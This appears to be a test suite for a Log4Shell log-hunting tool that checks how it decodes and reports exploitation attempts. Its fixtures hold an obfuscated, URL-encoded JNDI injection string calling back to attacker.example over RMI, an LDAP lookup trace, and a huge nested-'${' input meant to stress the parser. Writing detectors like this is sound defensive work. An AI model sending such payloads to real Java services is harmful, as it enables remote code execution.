import { spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { gzipSync } from 'node:zlib';

// Runs the BUILT agent, as an admin would. Build first: npx nx run agent:build
const WORKSPACE = path.resolve(__dirname, '../../..');
const MAIN = path.join(WORKSPACE, 'dist/apps/agent/main.js');
const RUN_TIMEOUT_MS = 120_000;

interface Run {
  code: number | null;
  stdout: string;
  stderr: string;
}

function agent(...args: string[]): Run {
  const res = spawnSync(process.execPath, [MAIN, ...args], {
    cwd: WORKSPACE,
    encoding: 'utf8',
    timeout: RUN_TIMEOUT_MS,
    env: { ...process.env, NO_COLOR: '1' },
  });
  if (res.error) throw new Error(`running ${MAIN} ${args.join(' ')} failed: ${res.error.message}`);
  return { code: res.status, stdout: res.stdout, stderr: res.stderr };
}

type JsonLine = Record<string, unknown>;

function jsonLines(stdout: string): JsonLine[] {
  return stdout
    .trim()
    .split('\n')
    .map((l) => JSON.parse(l) as JsonLine);
}

let base: string;
const at = (...p: string[]): string => path.join(base, ...p);

function place(files: Record<string, Buffer | string>): void {
  for (const [rel, content] of Object.entries(files)) {
    mkdirSync(path.dirname(at(rel)), { recursive: true });
    writeFileSync(at(rel), content);
  }
}

beforeAll(() => {
  if (!existsSync(MAIN))
    throw new Error(`${MAIN} is missing: build the agent first (npx nx run agent:build)`);
  base = mkdtempSync(path.join(tmpdir(), 'hunt-cli-'));
  place({
    'attacked/access.log': [
      '10.0.0.1 - - [10/Dec/2021:12:00:00 +0000] "GET / HTTP/1.1" 200 512 "-" "curl/7.68"',
      '10.0.0.9 - - [10/Dec/2021:12:00:05 +0000] "GET /?q=%24%7B%24%7B%3A%3A-j%7Dndi%3Armi%3A%2F%2Fattacker.example%3A1099%2Fx%7D HTTP/1.1" 200 5 "-" "-"',
    ].join('\n'),
    'attacked/app.log.1.gz': gzipSync(
      Buffer.from(
        '2021-12-10 12:00:06,000 WARN Error looking up JNDI resource [ldap://attacker.example:1389/a].\n',
      ),
    ),
    'clean/app.log':
      '2021-12-10 12:00:00,000 INFO started ${sys:user.home}/logs, JNDI datasource java:comp/env/jdbc/ds\n',
    'ldap-only/app.log': '\tat com.sun.jndi.ldap.LdapCtx.c_lookup(LdapCtx.java:1085)\n',
    'broken/app.log.gz': gzipSync(Buffer.from('x\n'.repeat(10_000))).subarray(0, 40),
    'hostile/huge.log': '${'.repeat(500_000) + '}'.repeat(500_000) + '\n',
    'conf/log4j2.xml': '<Configuration/>',
  });
});
afterAll(() => rmSync(base, { recursive: true, force: true }));

describe('log4fleet-agent hunt', () => {
  it('prints a table of hits with decoded form and callback, and exits 2', () => {
    const r = agent('hunt', at('attacked'));
    expect(r.code).toBe(2);
    expect(r.stdout).toContain(`${at('attacked/access.log')}:2`);
    expect(r.stdout).toContain('rmi://attacker.example:1099/x');
    expect(r.stdout).toContain('${jndi:rmi://attacker.example:1099/x}');
    expect(r.stdout).toContain(`${at('attacked/app.log.1.gz')}:1`);
    expect(r.stdout).toContain('trace:jndi-lookup-error');
    expect(r.stdout).toMatch(/Hunted 2 files .*: 2 hits calling back to attacker\.example/);
  });

  it('--json: one line per hit with file, line, timestamp, target, then a summary with the exit code', () => {
    const r = agent('hunt', '--json', at('attacked'));
    const lines = jsonLines(r.stdout);
    expect(lines.map((l) => l.type)).toEqual(['hit', 'hit', 'summary']);
    expect(lines[0]).toMatchObject({
      kind: 'jndi',
      file: at('attacked/access.log'),
      line: 2,
      timestamp: '2021-12-10T12:00:05.000Z',
      decoded: '${jndi:rmi://attacker.example:1099/x}',
      target: { protocol: 'rmi', host: 'attacker.example', port: 1099, path: '/x' },
      obfuscation: expect.arrayContaining(['url', 'default']),
    });
    expect(lines[1]).toMatchObject({
      kind: 'trace',
      trace: 'jndi-lookup-error',
      target: { host: 'attacker.example' },
    });
    expect(lines[2]).toMatchObject({ type: 'summary', files: 2, hits: 2, errors: 0, exitCode: 2 });
  });

  it('--sarif: results with file URIs and line regions', () => {
    const r = agent('hunt', '--sarif', at('attacked'));
    const log = JSON.parse(r.stdout) as {
      version: string;
      runs: Array<{
        results: Array<{ locations: Array<{ physicalLocation: unknown }> }>;
        invocations: Array<{ exitCode: number }>;
      }>;
    };
    expect(log.version).toBe('2.1.0');
    const results = log.runs[0].results;
    expect(results).toHaveLength(2);
    expect(results[0].locations[0].physicalLocation).toEqual({
      artifactLocation: { uri: `file://${at('attacked/access.log')}` },
      region: { startLine: 2 },
    });
    expect(log.runs[0].invocations[0].exitCode).toBe(2);
  });

  it('benign look-alikes: exit 0', () => {
    const r = agent('hunt', at('clean'));
    expect(r.stdout).toContain('No signs of exploitation found.');
    expect(r.code).toBe(0);
  });

  it('only a low-confidence trace: exit 1', () => {
    expect(agent('hunt', at('ldap-only')).code).toBe(1);
  });

  it('a corrupt gzip and nothing found: exit 3, the file named', () => {
    const r = agent('hunt', '--json', at('broken'));
    expect(r.code).toBe(3);
    expect(jsonLines(r.stdout)[0]).toMatchObject({
      type: 'error',
      path: at('broken/app.log.gz'),
      code: 'corrupt-compressed',
    });
  });

  it('a megabyte line of nested ${ is reported as nesting and the hunt finishes', () => {
    const r = agent('hunt', '--json', at('hostile'));
    expect(jsonLines(r.stdout)[0]).toMatchObject({
      type: 'hit',
      kind: 'nesting',
      line: 1,
      rawTruncated: true,
    });
    expect(r.code).toBe(2);
  });

  it('--config-dir lists files changed after --changed-since with owner and mode: exit 1', () => {
    const r = agent(
      'hunt',
      '--json',
      '--config-dir',
      at('conf'),
      '--changed-since',
      '2021-12-01',
      at('clean'),
    );
    const changed = jsonLines(r.stdout).filter((l) => l.type === 'changed-file');
    expect(changed).toEqual([
      expect.objectContaining({
        path: at('conf/log4j2.xml'),
        changed: 'mtime',
        mode: expect.stringMatching(/^0\d+$/),
      }),
    ]);
    expect(r.code).toBe(1);
  });

  it('bad input is a usage error naming it: exit 64', () => {
    const since = agent('hunt', '--since', 'yesterday', at('clean'));
    expect(since.code).toBe(64);
    expect(since.stderr).toContain("argument 'yesterday' is invalid");
    const ioc = agent('hunt', '--indicators', at('clean'), at('clean'));
    expect(ioc.code).toBe(64);
    expect(ioc.stderr).toContain(`indicator directory ${at('clean')} holds none of`);
  });

  it('a missing path is an error in the report: exit 3', () => {
    const r = agent('hunt', '--json', at('nope.log'));
    expect(jsonLines(r.stdout)[0]).toMatchObject({
      type: 'error',
      code: 'not-found',
      path: at('nope.log'),
    });
    expect(r.code).toBe(3);
  });
});
